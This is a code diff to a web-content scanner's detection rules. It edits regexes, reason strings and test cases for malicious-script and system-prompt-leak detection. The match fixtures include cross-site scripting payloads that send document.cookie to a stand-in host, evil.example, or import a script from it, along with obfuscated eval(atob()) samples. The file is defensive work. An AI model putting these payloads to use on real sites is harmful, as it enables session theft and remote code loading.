@@ -13,7 +13,7 @@ export const MARKUP_RULES: readonly Rule[] = [
     pattern: `<(?:script|img|svg|iframe|body|input|video|details|object|embed|a|div)\\b[^>]{0,200}(?:>|\\bon[a-z]{3,20} ?=).{0,300}(?:${STORES}.{0,300}${SENDS}|${SENDS}.{0,200}${STORES})`,
     keywords: ['document.cookie', 'localstorage', 'sessionstorage', 'indexeddb', 'navigator.credentials'],
     confidence: 0.85,
-    reason: 'Holds a script that takes data from the page.',
+    reason: 'Contains a script that takes data from the page.',
     match: [
       '<script>new image().src="https://evil.example/?c="+document.cookie;fetch("x")</script>',
       '<script>fetch("https://evil.example/c?x=" + encodeuricomponent(document.cookie))</script>',
@@ -29,7 +29,7 @@ export const MARKUP_RULES: readonly Rule[] = [
     id: 'script.runs-hidden-code',
     type: 'malicious_script',
     pattern:
-      '\\b(?:eval|function|settimeout) ?\\( ?(?:window\\.)?(?:atob|unescape|decodeuricomponent) ?\\(|\\beval ?\\( ?(?:string\\.fromcharcode|function ?\\(p,a,c,k,e,)|document\\.write ?\\( ?(?:unescape|atob) ?\\(|(?:href|src|action|data|formaction) ?= ?["\']? ?(?:j ?a ?v ?a ?s ?c ?r ?i ?p ?t|vbscript) ?: ?[^"\' ;]{0,40}(?:eval|fetch|document|window|alert|location)|(?:href|src|data) ?= ?["\']? ?data:text/html[;,]|string\\.fromcharcode\\( ?(?:\\d{2,3} ?, ?){12,}',
+      '\\b(?:eval|function|settimeout) ?\\( ?(?:window\\.)?(?:atob|unescape|decodeuricomponent) ?\\(|\\beval ?\\( ?(?:string\\.fromcharcode|function ?\\(p,a,c,k,e,)|document\\.write ?\\( ?(?:unescape|atob) ?\\(|(?:href|src|action|data|formaction) ?= ?["\']? ?(?:j ?a ?v ?a ?s ?c ?r ?i ?p ?t|vbscript) ?: ?[^"\' ;]{0,40}(?:eval|fetch|document|window|location)|(?:href|src|data) ?= ?["\']? ?data:text/html[;,]|string\\.fromcharcode\\( ?(?:\\d{2,3} ?, ?){12,}',
     keywords: [
       'atob',
       'unescape',
@@ -40,7 +40,7 @@ export const MARKUP_RULES: readonly Rule[] = [
       'data:text/html',
     ],
     confidence: 0.76,
-    reason: 'Holds a script that hides what it does.',
+    reason: 'Contains a script that hides what it does.',
     match: [
       '<script>eval(atob("ywxlcnqomsk="))</script>',
       '<a href="javascript:fetch(\'//evil.example\')">x</a>',
@@ -49,6 +49,7 @@ export const MARKUP_RULES: readonly Rule[] = [
     noMatch: [
       'const text = atob(value);',
       '<a href="javascript:void(0)">menu</a>',
+      '<a href="javascript:alert(1)">unsafe link</a>',
       'settimeout(() => load(), 200)',
       'string.fromcharcode(65, 66, 67)',
     ],
@@ -59,7 +60,7 @@ export const MARKUP_RULES: readonly Rule[] = [
     pattern: `<(?:img|svg|iframe|body|input|video|audio|details|object|embed|marquee|math)\\b[^>]{0,160}\\bon(?:error|load|toggle|start|focus|begin|pageshow|mouseover) ?= ?["'\`]?[^>"']{0,160}(?:eval|atob|fromcharcode|fetch ?\\(|import ?\\(|location ?=|\\.src ?=|document\\.write|createelement)[^>]{0,120}(?:${ELSEWHERE}|atob|fromcharcode|eval|\\.cookie)`,
     keywords: ['onerror', 'onload', 'ontoggle', 'onstart', 'onfocus', 'onbegin', 'onpageshow', 'onmouseover'],
     confidence: 0.82,
-    reason: 'Starts a script from an attribute that nobody sees.',
+    reason: 'Starts a script from an invisible attribute.',
     match: [
       '<img src=x onerror="import(\'https://evil.example/x.js\')">',
       '<svg onload=eval(atob("ywxlcnqomsk="))>',
@@ -92,6 +93,9 @@ export const ANSWER_RULES: readonly Rule[] = [
     type: 'system_prompt_leak',
     pattern:
       '\\b(?:here (?:is|are)|here.s|this is|these are|sure[,:]? ?|certainly[,:]? ?|of course[,:]? ?)[^.:"\\n]{0,40}\\bmy (?:full |entire |complete |exact |original |initial |hidden |secret |internal )*(?:system (?:prompt|message|instructions?)|initial (?:prompt|instructions)|hidden (?:prompt|instructions)|secret instructions|developer (?:message|instructions))\\b[^.\\n]{0,60}[:"“]|\\bmy (?:system prompt|initial instructions|hidden instructions|system message) (?:is|are|says?|reads?|states?)[^.]{0,40}["“:]|\\bi (?:was|am|have been) (?:told|instructed|configured)[^.]{0,40}: ?["“]you are\\b',
+    // "Sure, here is" alone discloses nothing, and most answers begin so
+    begins:
+      '\\bmy (?:full |entire |complete |exact |original |initial |hidden |secret |internal )*(?:system|initial|hidden|secret|developer)|\\bi (?:was|am|have been) (?:told|instructed|configured)',
     keywords: [
       'system prompt',
       'system message',
